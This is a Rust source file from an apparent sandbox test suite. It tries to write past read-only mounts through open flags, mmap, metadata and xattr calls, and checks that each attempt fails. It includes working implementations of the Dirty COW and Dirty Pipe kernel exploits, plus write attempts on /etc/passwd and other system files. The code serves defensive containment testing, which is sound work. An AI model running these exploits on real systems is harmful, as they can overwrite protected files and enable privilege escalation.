//! Writing where only reading was given. `target` is a file of our own user's on a read-only mount,
//! so that only the mount (or Landlock) stands in the way, not its mode.

use super::links::split;
use crate::report::{first, Args, Attack, Outcome, Trace};
use crate::sys;
use crate::sys::{c, close, Res};

pub const ATTACKS: &[Attack] = &[
    ("read-only-file", read_only_file),
    ("read-only-directory", read_only_directory),
    ("read-only-metadata", read_only_metadata),
    ("read-only-xattr", read_only_xattr),
    ("read-only-memory", read_only_memory),
    ("dirty-pipe", dirty_pipe),
    ("system-files", system_files),
];

fn read_only_file(args: &Args, trace: &mut Trace) -> Outcome {
    let target = args.get("target");
    let mut outcomes = Vec::new();
    for (word, flags) in [
        ("O_WRONLY", libc::O_WRONLY),
        ("O_RDWR", libc::O_RDWR),
        ("O_APPEND", libc::O_WRONLY | libc::O_APPEND),
        ("O_CREAT", libc::O_WRONLY | libc::O_CREAT),
    ] {
        outcomes.push(trace.must_fail(word, sys::open(target, flags)));
    }
    let path = c(target);
    outcomes.push(trace.must_fail("truncate to the same length", {
        let length = std::fs::metadata(target)
            .map(|about| about.len())
            .unwrap_or(0);
        sys!(libc::SYS_truncate, path.as_ptr(), length)
    }));
    if let Ok(fd) = trace.call("open for reading", sys::open(target, libc::O_RDONLY)) {
        for again in [
            format!("/proc/self/fd/{fd}"),
            format!("/proc/thread-self/fd/{fd}"),
        ] {
            outcomes.push(trace.must_fail("reopen for writing", sys::open(&again, libc::O_RDWR)));
        }
        outcomes.push(trace.must_fail("write to it", sys::write_all(fd, b"!")));
        let mapped = sys!(
            libc::SYS_mmap,
            0,
            4096,
            libc::PROT_WRITE,
            libc::MAP_SHARED,
            fd,
            0
        );
        outcomes.push(trace.must_fail("mmap shared for writing", mapped));
        let mapped = sys!(
            libc::SYS_mmap,
            0,
            4096,
            libc::PROT_READ,
            libc::MAP_SHARED,
            fd,
            0
        );
        if let Ok(address) = mapped {
            let raised = sys!(
                libc::SYS_mprotect,
                address,
                4096,
                libc::PROT_READ | libc::PROT_WRITE
            );
            outcomes.push(trace.must_fail("mprotect for writing", raised));
        }
        outcomes.push(trace.must_fail("fallocate", sys!(libc::SYS_fallocate, fd, 0, 0, 1)));
        close(fd);
    }
    first(outcomes)
}

/// Each that works is undone.
fn read_only_directory(args: &Args, trace: &mut Trace) -> Outcome {
    let target = args.get("target");
    let (directory, _) = split(target);
    let (old, new) = (c(target), c(&format!("{directory}/glovebox-new")));
    let made = trace.must_fail("mkdir", sys!(crate::older::SYS_mkdir, new.as_ptr(), 0o700));
    let _ = sys!(crate::older::SYS_rmdir, new.as_ptr());
    let link = trace.must_fail(
        "symlink",
        sys!(crate::older::SYS_symlink, old.as_ptr(), new.as_ptr()),
    );
    let _ = sys!(crate::older::SYS_unlink, new.as_ptr());
    let hard = trace.must_fail(
        "link",
        sys!(crate::older::SYS_link, old.as_ptr(), new.as_ptr()),
    );
    let _ = sys!(crate::older::SYS_unlink, new.as_ptr());
    let moved = trace.must_fail(
        "rename",
        sys!(crate::older::SYS_rename, old.as_ptr(), new.as_ptr()),
    );
    let _ = sys!(crate::older::SYS_rename, new.as_ptr(), old.as_ptr());
    let created = trace.must_fail(
        "create",
        sys::open_mode(
            &format!("{directory}/glovebox-new"),
            libc::O_CREAT | libc::O_WRONLY,
            0o600,
        ),
    );
    let _ = sys!(crate::older::SYS_unlink, new.as_ptr());
    let unnamed = trace.must_fail(
        "O_TMPFILE",
        sys::open_mode(directory, libc::O_TMPFILE | libc::O_WRONLY, 0o600),
    );
    let fifo = trace.must_fail(
        "mkfifo",
        sys!(
            libc::SYS_mknodat,
            -100,
            new.as_ptr(),
            libc::S_IFIFO | 0o600,
            0
        ),
    );
    let _ = sys!(crate::older::SYS_unlink, new.as_ptr());
    first([made, link, hard, moved, created, unnamed, fifo])
}

fn read_only_metadata(args: &Args, trace: &mut Trace) -> Outcome {
    let target = args.get("target");
    let path = c(target);
    let about = match std::fs::metadata(target) {
        Ok(about) => about,
        Err(error) => return Outcome::NotTried(error.to_string()),
    };
    use std::os::unix::fs::MetadataExt;
    let mode = about.mode() & 0o777;
    let times = [
        libc::timespec {
            tv_sec: about.atime(),
            tv_nsec: about.atime_nsec(),
        },
        libc::timespec {
            tv_sec: about.mtime(),
            tv_nsec: about.mtime_nsec(),
        },
    ];
    first([
        trace.must_fail("chmod", sys!(crate::older::SYS_chmod, path.as_ptr(), mode)),
        trace.must_fail(
            "fchmodat",
            sys!(libc::SYS_fchmodat, -100, path.as_ptr(), mode),
        ),
        trace.must_fail(
            "chown",
            sys!(
                crate::older::SYS_chown,
                path.as_ptr(),
                about.uid(),
                about.gid()
            ),
        ),
        trace.must_fail(
            "utimensat",
            sys!(libc::SYS_utimensat, -100, path.as_ptr(), times.as_ptr(), 0),
        ),
        trace.must_fail("FS_IOC_SETFLAGS", set_flags(target)),
    ])
}

/// Writes the inode flags back that were read.
fn set_flags(path: &str) -> Res {
    const FS_IOC_GETFLAGS: i64 = 0x8008_6601u32 as i64;
    const FS_IOC_SETFLAGS: i64 = 0x4008_6602;
    let fd = sys::open(path, libc::O_RDONLY)?;
    let mut flags = 0i64;
    let got = sys!(libc::SYS_ioctl, fd, FS_IOC_GETFLAGS, &mut flags as *mut i64);
    let set = got.and_then(|_| sys!(libc::SYS_ioctl, fd, FS_IOC_SETFLAGS, &flags as *const i64));
    close(fd);
    set
}

fn read_only_xattr(args: &Args, trace: &mut Trace) -> Outcome {
    let path = c(args.get("target"));
    first(
        [
            "user.glovebox",
            "security.capability",
            "trusted.glovebox",
            "security.selinux",
        ]
        .map(|name| {
            let name_c = c(name);
            let set = sys!(
                libc::SYS_setxattr,
                path.as_ptr(),
                name_c.as_ptr(),
                name_c.as_ptr(),
                4,
                0
            );
            let outcome = trace.must_fail(name, set);
            let _ = sys!(libc::SYS_removexattr, path.as_ptr(), name_c.as_ptr());
            outcome
        }),
    )
}

/// Writes through /proc/self/mem over a private mapping, which the kernel must copy first (CVE-2016-5195),
/// with a second thread that throws the copy away.
fn read_only_memory(args: &Args, trace: &mut Trace) -> Outcome {
    let target = args.get("target");
    let fd = match sys::open(target, libc::O_RDONLY) {
        Ok(fd) => fd,
        Err(errno) => return Outcome::NotTried(format!("target: {errno}")),
    };
    let before = sys::read_some(fd, 4096).unwrap_or_default();
    let mapped = sys!(
        libc::SYS_mmap,
        0,
        4096,
        libc::PROT_READ,
        libc::MAP_PRIVATE,
        fd,
        0
    );
    let Ok(address) = trace.call("mmap private", mapped) else {
        return Outcome::NotTried("no mapping".into());
    };
    let memory = match trace.call(
        "open /proc/self/mem",
        sys::open("/proc/self/mem", libc::O_RDWR),
    ) {
        Ok(fd) => fd,
        Err(_) => return Outcome::Nothing,
    };
    let throwing = std::thread::spawn(move || {
        for _ in 0..4000 {
            let _ = sys!(libc::SYS_madvise, address, 4096, libc::MADV_DONTNEED);
        }
    });
    for _ in 0..4000 {
        let byte = [b'!'];
        let _ = sys!(libc::SYS_pwrite64, memory, byte.as_ptr(), 1, address);
    }
    if throwing.join().is_err() {
        return Outcome::NotTried("the second thread failed".into());
    }
    let after = sys::read_file(target).unwrap_or_default();
    if after == before {
        Outcome::Nothing
    } else {
        Outcome::Effect("the file changed".into())
    }
}

/// CVE-2022-0847: a pipe buffer that still points into the page cache is written to.
fn dirty_pipe(args: &Args, trace: &mut Trace) -> Outcome {
    let target = args.get("target");
    let before = sys::read_file(target).unwrap_or_default();
    let (fd, pipe) = match (sys::open(target, libc::O_RDONLY), crate::batch::pipe()) {
        (Ok(fd), Ok(pipe)) => (fd, pipe),
        (Err(errno), _) | (_, Err(errno)) => return Outcome::NotTried(errno.to_string()),
    };
    let page = [0u8; 4096];
    // Fill and drain: every buffer of the pipe may then be merged into.
    for _ in 0..16 {
        let _ = sys::write_all(pipe.1, &page);
    }
    for _ in 0..16 {
        let _ = sys::read_some(pipe.0, 4096);
    }
    let mut offset = 0i64;
    let spliced = sys!(
        libc::SYS_splice,
        fd,
        &mut offset as *mut i64,
        pipe.1,
        0,
        1,
        0
    );
    if trace.call("splice", spliced).is_err() {
        return Outcome::Nothing;
    }
    let _ = trace.call("write into the pipe", sys::write_all(pipe.1, b"!"));
    if sys::read_file(target).unwrap_or_default() == before {
        Outcome::Nothing
    } else {
        Outcome::Effect("the file changed".into())
    }
}

/// The system's own: opened for writing, and written to by nobody.
fn system_files(_: &Args, trace: &mut Trace) -> Outcome {
    let mut outcomes = Vec::new();
    for path in [
        "/etc/passwd",
        "/etc/hosts",
        "/etc/resolv.conf",
        "/etc/ld.so.cache",
        "/usr/bin/env",
        "/usr/lib/os-release",
        "/lib64/ld-linux-x86-64.so.2",
        "/lib/ld-linux-aarch64.so.1",
    ] {
        outcomes.push(trace.must_fail(
            &format!("open {path} for writing"),
            sys::open(path, libc::O_WRONLY),
        ));
    }
    for directory in ["/", "/usr", "/usr/bin", "/etc", "/dev", "/proc"] {
        let name = format!("{directory}/glovebox-made");
        outcomes.push(trace.must_fail(
            &format!("create in {directory}"),
            sys::open_mode(&name, libc::O_CREAT | libc::O_WRONLY, 0o600),
        ));
        let name = c(&name);
        let _ = sys!(crate::older::SYS_unlink, name.as_ptr());
    }
    first(outcomes)
}
